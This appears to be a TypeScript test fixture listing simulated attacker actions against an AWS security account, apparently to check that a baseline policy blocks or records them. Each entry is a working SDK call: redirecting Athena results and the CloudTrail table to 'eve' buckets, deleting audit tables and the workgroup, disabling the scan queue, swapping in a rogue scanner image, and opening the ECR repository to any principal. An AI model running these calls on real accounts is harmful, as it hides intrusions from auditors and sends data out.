import { DeleteWorkGroupCommand, UpdateWorkGroupCommand } from '@aws-sdk/client-athena';
import {
  RegisterJobDefinitionCommand,
  SubmitJobCommand,
  UpdateJobQueueCommand,
} from '@aws-sdk/client-batch';
import { SetRepositoryPolicyCommand } from '@aws-sdk/client-ecr';
import { DeleteTableCommand, GetTableCommand, UpdateTableCommand } from '@aws-sdk/client-glue';
import type { Damage } from './damage.ts';
import { forAnyPrincipal } from './damage.ts';

const inSecurity = { account: 'SecurityAccount', policy: 'ProtectBaseline' } as const;

/** Athena, its tables, and what scans run on. */
export const queryAndScanDamages: readonly Damage[] = [
  {
    ...inSecurity,
    name: 'sends the results of queries to a bucket of its own',
    does: ({ clients }) =>
      clients.athena.send(
        new UpdateWorkGroupCommand({
          WorkGroup: 'ofn-audit',
          ConfigurationUpdates: {
            ResultConfigurationUpdates: { OutputLocation: 's3://eve-results/' },
          },
        }),
      ),
    ledger: { because: 'the rows below are of the same cell' },
  },
  {
    ...inSecurity,
    name: 'deletes the workgroup of queries',
    does: ({ clients }) =>
      clients.athena.send(
        new DeleteWorkGroupCommand({ WorkGroup: 'ofn-audit', RecursiveDeleteOption: true }),
      ),
    ledger: { because: 'the rows below are of the same cell' },
  },
  {
    ...inSecurity,
    name: 'makes the table of the trail read another bucket',
    does: async ({ clients }) => {
      const DatabaseName = 'ofn_audit';
      const { Table } = await clients.glue.send(
        new GetTableCommand({ DatabaseName, Name: 'cloudtrail_days' }),
      );
      await clients.glue.send(
        new UpdateTableCommand({
          DatabaseName,
          TableInput: {
            Name: 'cloudtrail_days',
            TableType: Table?.TableType,
            PartitionKeys: Table?.PartitionKeys,
            Parameters: Table?.Parameters,
            StorageDescriptor: { ...Table?.StorageDescriptor, Location: 's3://eve-trail/' },
          },
        }),
      );
    },
    ledger: { service: 'athena', says: /TrailTable TableInput.StorageDescriptor.Location/ },
  },
  {
    ...inSecurity,
    name: 'deletes the table of flow logs',
    does: ({ clients }) =>
      clients.glue.send(
        new DeleteTableCommand({ DatabaseName: 'ofn_audit', Name: 'flow_log_days' }),
      ),
    ledger: { service: 'athena', says: /flow_log_days/ },
  },
  {
    ...inSecurity,
    name: 'disables the queue of scans',
    does: ({ clients }) =>
      clients.batch.send(
        new UpdateJobQueueCommand({ jobQueue: 'ofn-audit-security-audit', state: 'DISABLED' }),
      ),
    ledger: { service: 'security-audit', says: /DISABLED|State|queue/ },
  },
  {
    ...inSecurity,
    name: 'scans with an image of its own',
    does: ({ clients }) =>
      clients.batch.send(
        new RegisterJobDefinitionCommand({
          ...{ jobDefinitionName: 'ofn-audit-security-audit', type: 'container' },
          platformCapabilities: ['FARGATE'],
          containerProperties: { image: 'eve/scanner' },
        }),
      ),
    ledger: { because: 'the function names the revision of its stack' },
  },
  {
    ...inSecurity,
    name: 'runs code with the role of scans',
    does: ({ clients }) =>
      clients.batch.send(
        new SubmitJobCommand({
          ...{ jobName: 'eve', jobQueue: 'ofn-audit-security-audit' },
          jobDefinition: 'ofn-audit-security-audit',
        }),
      ),
    ledger: { because: 'a job leaves nothing behind; the call is in the trail' },
  },
  {
    ...inSecurity,
    name: 'lets any principal replace the image of scans',
    does: ({ clients }) => {
      const { Resource: _none, ...statement } = forAnyPrincipal('ecr:PutImage', '*');
      return clients.ecr.send(
        new SetRepositoryPolicyCommand({
          repositoryName: 'ofn-audit-security-audit',
          policyText: JSON.stringify({ Version: '2012-10-17', Statement: [statement] }),
        }),
      );
    },
    ledger: { service: 'security-audit', says: /RepositoryPolicyText/ },
  },
];
